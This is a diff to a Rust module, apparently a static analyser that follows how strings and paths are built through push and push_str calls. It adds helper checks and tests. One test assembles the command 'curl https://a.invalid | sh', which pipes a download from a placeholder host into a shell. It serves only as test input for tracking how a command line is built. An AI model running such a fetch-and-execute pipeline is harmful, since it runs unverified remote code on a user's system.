@@ -31,8 +31,20 @@ pub(in crate::pure) fn changed(path: &str, name: &str, args: &[Value]) -> Option
     let is_path = begins_at_a_place || path.contains('/') && !path.contains("://");
     let nothing = Value::Undefined;
     match (name, args) {
+        ("push", [letter]) if !begins_at_a_place && is_letter(letter) => {
+            let letter = letter.as_text().unwrap_or_default();
+            Some((made(path.to_owned() + &letter), nothing))
+        }
         ("push", [part]) => Some((pushed(path, part)?, nothing)),
-        // Of texts only those are followed that are paths.
+        ("push_str", [part])
+            if !begins_at_a_place
+                && !is_address(path)
+                && part.known_text().is_some_and(|part| !is_place(part)) =>
+        {
+            let part = part.known_text().unwrap_or_default();
+            Some((made(path.to_owned() + part), nothing))
+        }
+        // Of texts with something that is not known only those are followed that are paths.
         ("push_str", [part]) => {
             let part = part.as_text().unwrap_or_else(|| HOLE.to_owned());
             let begins = path.is_empty() && is_place(&part);
@@ -68,6 +80,18 @@ pub(in crate::pure) fn changed(path: &str, name: &str, args: &[Value]) -> Option
         }
         _ => None,
     }
+}
+
+/// Whether a text is an address, and no line with one in it.
+fn is_address(text: &str) -> bool {
+    let scheme = text.split_once("://").map(|(scheme, _)| scheme);
+    scheme.is_some_and(|scheme| !scheme.contains(' '))
+}
+
+/// Whether it is one letter: what a text gets by `push`, and hardly ever a path.
+fn is_letter(value: &Value) -> bool {
+    let text = value.known_text();
+    text.is_some_and(|text| text.chars().count() == 1)
 }
 
 /// `path.push(part)`. None where it is a text that gets another letter.
@@ -231,13 +255,16 @@ mod tests {
             ("https://a.invalid", "push", vec!["bc"]),
             ("https://a.invalid", "push_str", vec!["bc"]),
             ("https://a.invalid/b", "pop", vec![]),
-            ("ab", "push", vec!["c"]),
             ("ab", "pop", vec![]),
             ("a/b,", "pop", vec![]),
             ("ab", "truncate", vec!["1"]),
         ] {
             assert_eq!(left(text, name, &args), None, "{text} {name}");
         }
+        // A line is put together, letter by letter as well.
+        assert_eq!(left("ab", "push", &["c"]).as_deref(), Some("abc"));
+        let line = left("curl https://a.invalid", "push_str", &[" | sh"]);
+        assert_eq!(line.as_deref(), Some("curl https://a.invalid | sh"));
     }
 
     #[test]
